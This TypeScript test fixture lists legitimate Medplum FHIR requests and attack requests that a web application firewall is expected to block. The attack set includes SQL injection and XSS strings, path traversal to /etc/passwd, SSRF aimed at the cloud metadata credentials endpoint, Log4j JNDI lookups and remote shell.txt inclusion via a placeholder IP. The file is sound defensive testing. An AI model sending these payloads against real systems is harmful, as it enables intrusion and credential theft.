import { type Request, request } from "../../firewall/evaluate";
import { disreputable } from "../../firewall/detectors";

const json = { "content-type": "application/fhir+json", authorization: "Bearer token" };
const form = { "content-type": "application/x-www-form-urlencoded" };
const text = (bytes: number) => "Sees her physician every month. ".repeat(Math.ceil(bytes / 32));
const patient = {
  resourceType: "Patient",
  text: {
    status: "generated",
    div: '<div xmlns="http://www.w3.org/1999/xhtml"><p onclick="x">Maria <b>Example</b></p></div>',
  },
  name: [{ family: "O'Brien or Smith", given: ["Maria"] }],
};
const ids = Array.from({ length: 80 }, (_, i) => `11111111-2222-3333-4444-${String(i).padStart(12, "0")}`);
const fhir = (method: string, path: string, body?: object | string, headers: object = json): Request =>
  request(method, `/fhir/R4/${path}`, {
    headers: headers as Record<string, string>,
    body: typeof body === "string" ? body : body ? JSON.stringify(body) : "",
  });
const fhirFrom = (address: string): Request => request("GET", "/fhir/R4/Patient", { address });
const query = (values: Record<string, string>) => new URLSearchParams(values).toString();

/** What Medplum's apps, clients and integrations send, by what it is. */
export const served: Readonly<Record<string, Request>> = {
  "the health check of a monitor": request("GET", "/healthcheck"),
  "SMART's configuration": request("GET", "/.well-known/smart-configuration"),
  "the capability statement": fhir("GET", "metadata"),
  "signing in": request("POST", "/auth/login", {
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ email: "maria@example.edu", password: "Correct horse!", scope: "openid" }),
  }),
  "a native app's authorization": request(
    "GET",
    `/oauth2/authorize?${query({ client_id: ids[0]!, response_type: "code", redirect_uri: "http://127.0.0.1:52110/callback" })}`,
  ),
  "a developer's authorization": request(
    "GET",
    `/oauth2/authorize?${query({ client_id: ids[0]!, redirect_uri: "http://localhost:3000/callback" })}`,
  ),
  "a token for it": request("POST", "/oauth2/token", {
    headers: form,
    // Encoded in fact; the rules decode it.
    body: "grant_type=authorization_code&redirect_uri=http://127.0.0.1:52110/callback",
  }),
  "dynamic client registration": request("POST", "/oauth2/register", {
    headers: json,
    body: JSON.stringify({ redirect_uris: ["http://127.0.0.1:8080/callback"] }),
  }),
  "an app that developers register": fhir("POST", "ClientApplication", {
    resourceType: "ClientApplication",
    redirectUris: ["http://localhost:3000/", "http://127.0.0.1:3000/"],
  }),
  "a patient with a narrative": fhir("POST", "Patient", patient),
  "a resource beyond 8 KB": fhir("PUT", `DocumentReference/${ids[0]}`, { ...patient, note: text(40_000) }),
  "a batch": fhir("POST", "", { resourceType: "Bundle", type: "batch", entry: [{ resource: patient }] }),
  "a batch without the slash": request("POST", "/fhir/R4", { headers: json, body: text(9000) }),
  "a JSON patch": fhir(
    "PATCH",
    `Patient/${ids[0]}`,
    [{ op: "replace", path: "/name/0/family", value: "O'Neil or Smith" }],
    { ...json, "content-type": "application/json-patch+json" },
  ),
  GraphQL: fhir("POST", "$graphql", {
    query: '{ PatientList(name: "select x from y") { name { family } } } # union select -- ',
  }),
  "a search by tokens": fhir(
    "GET",
    `Observation?${query({ code: "http://loinc.org|1234-5", subject: "Patient/1--1" })}`,
  ),
  "a filter": fhir("GET", `Patient?${query({ _filter: "name co 'Smith' or given eq 'O''Brien'" })}`),
  "a search by many ids": fhir("GET", `Patient?_id=${ids.join(",")}`),
  "the same below /api": request("GET", `/api/fhir/R4/Patient?_id=${ids.join(",")}`),
  "an upload of a scan": fhir("POST", "Binary?_filename=device.log", `%PDF-1.7 ${text(60_000)}`, {
    "content-type": "application/pdf",
  }),
  "a CDA document for a bot": fhir(
    "POST",
    `Bot/${ids[0]}/$execute`,
    `<?xml version="1.0"?><ClinicalDocument xmlns="urn:hl7-org:v3"><text><br/></text></ClinicalDocument>${text(9000)}`,
    { "content-type": "application/cda+xml" },
  ),
  "an HL7 message": fhir(
    "POST",
    `Agent/${ids[0]}/$push`,
    "MSH|^~\\&|LAB|HOSPITAL|||202701311200||ORU^R01|1|P|2.5\rOBX|1|TX|note||select -- or 1=1 from '",
    { "content-type": "x-application/hl7-v2+er7" },
  ),
  "a bot's code": fhir("POST", `Bot/${ids[0]}/$deploy`, {
    code: 'import { x } from "../lib"; const url = `http://localhost:${port}/`; html = "<b>hi</b>"; q = "select a from b";',
  }),
  "an e-mail of a bot": request("POST", "/email/v1/send", {
    headers: json,
    body: JSON.stringify({ html: `<html><body>${text(12_000)}</body></html>` }),
  }),
  "a subscription's WebSocket": request("GET", "/ws/subscriptions-r4", {
    headers: { upgrade: "websocket", connection: "Upgrade" },
  }),
  "an agent's WebSocket": request("GET", "/ws/agent", {
    headers: { upgrade: "websocket", "user-agent": "node" },
  }),
  "an identity provider's user": request("POST", "/scim/v2/Users", { headers: json, body: "{}" }),
  "an identity provider's filter": request(
    "GET",
    `/scim/v2/Users?${query({ filter: 'userName eq "maria" or active eq true' })}`,
  ),
  "a device at an address": fhir("POST", "Endpoint", {
    resourceType: "Endpoint",
    address: "http://10.0.0.5/fhir",
  }),
};

const common = (rule: string) => `AWSManagedRulesCommonRuleSet/${rule}`;
const badInputs = (rule: string) => `AWSManagedRulesKnownBadInputsRuleSet/${rule}`;
/** Rules that block what an excepted rule matched elsewhere, by the name of the first of their exceptions. */
const outside = {
  records: "except-large-bodies",
  links: "except-addresses",
  redirects: "except-local-redirects",
  uploads: "except-imports-in-code",
};
const metadata = "http://169.254.169.254/latest/meta-data/iam/security-credentials/";

/** What attackers send, with the rule that stops it. */
export const stopped: Readonly<Record<string, readonly [Request, string]>> = {
  "a scanner": [
    request("GET", "/", { headers: { "user-agent": "sqlmap/1.7" } }),
    common("UserAgent_BadBots_HEADER"),
  ],
  "a client without a name": [
    request("GET", "/fhir/R4/Patient", { headers: { "user-agent": "" } }),
    common("NoUserAgent_HEADER"),
  ],
  "an address of ill repute": [
    fhirFrom(disreputable),
    "AWSManagedRulesAmazonIpReputationList/AWSManagedIPReputationList",
  ],
  "SQL where people sign in": [
    request("POST", "/auth/login", { body: `{"email":"x' or 1=1 --"}` }),
    outside.records,
  ],
  "SQL in a cookie of a search": [
    request("GET", "/fhir/R4/Patient", { headers: { cookie: "id=' or 1=1 --" } }),
    "AWSManagedRulesSQLiRuleSet/SQLi_COOKIE",
  ],
  "a script where people sign in": [
    request("POST", "/auth/newuser", { body: '{"firstName":"<script>alert(1)</script>"}' }),
    outside.records,
  ],
  "a script in a search": [
    request("GET", `/fhir/R4/Patient?${query({ name: "<script>alert(1)</script>" })}`),
    common("CrossSiteScripting_QUERYARGUMENTS"),
  ],
  "a large body where people sign in": [
    request("POST", "/auth/login", { body: text(9000) }),
    outside.records,
  ],
  "an exception's path borrowed by its parent": [
    request("POST", "/fhir/R4/../../auth/login", { body: text(9000) }),
    common("GenericLFI_URIPATH"),
  ],
  "an exception's path borrowed in other characters": [
    request("POST", "/fhir/R4/%2e%2e/%2e%2e/auth/login", { body: text(9000) }),
    outside.records,
  ],
  "a name that begins like an exception's path": [
    request("POST", "/fhir/R4x/Patient", { body: text(9000) }),
    outside.records,
  ],
  "a subscription that would fetch an instance's credentials": [
    fhir("POST", "Subscription", { resourceType: "Subscription", channel: { endpoint: metadata } }),
    outside.redirects,
  ],
  "the same in a batch": [
    fhir("POST", "", { entry: [{ resource: { channel: { endpoint: metadata } } }] }),
    outside.redirects,
  ],
  "credentials by a search": [
    fhir("GET", `Subscription?${query({ url: "http://localhost:8103" })}`),
    outside.redirects,
  ],
  "a file of the system in a search": [
    fhir("GET", `Patient?${query({ name: "../../etc/hosts" })}`),
    common("GenericLFI_QUERYARGUMENTS"),
  ],
  "a file of the system": [request("GET", "/etc/passwd"), "AWSManagedRulesLinuxRuleSet/LFI_URIPATH"],
  "a path upwards in a resource": [fhir("POST", "Patient", { name: "../../../x" }), outside.uploads],
  "a log file": [request("GET", "/server.log"), common("RestrictedExtensions_URIPATH")],
  "a log file by name in a search": [fhir("GET", "Patient?name=server.log"), outside.uploads],
  "Log4j's lookup in a resource": [
    fhir("POST", "Patient", { name: "${jndi:ldap://203.0.113.9/a}" }),
    outside.uploads,
  ],
  "Log4j's lookup in a header": [
    request("GET", "/", { headers: { "x-api-version": "${jndi:ldap://203.0.113.9/a}" } }),
    badInputs("Log4JRCE_HEADER"),
  ],
  "an address in a search": [
    fhir("GET", `Patient?${query({ link: "http://203.0.113.9/shell.txt" })}`),
    outside.redirects,
  ],
  "an address on an unknown page": [
    request("POST", "/index.php", { body: "file=http://203.0.113.9/shell.txt" }),
    outside.links,
  ],
  "a repository": [request("GET", "/.git/config"), badInputs("ExploitablePaths_URIPATH")],
  "the super administrator's pages": [request("POST", "/admin/super/reindex"), "guard-administration"],
  "the same below /api": [request("POST", "/api/admin/super/reindex"), "guard-administration"],
  "the same in other characters": [request("POST", "//Admin/%73uper/reindex"), "guard-administration"],
};
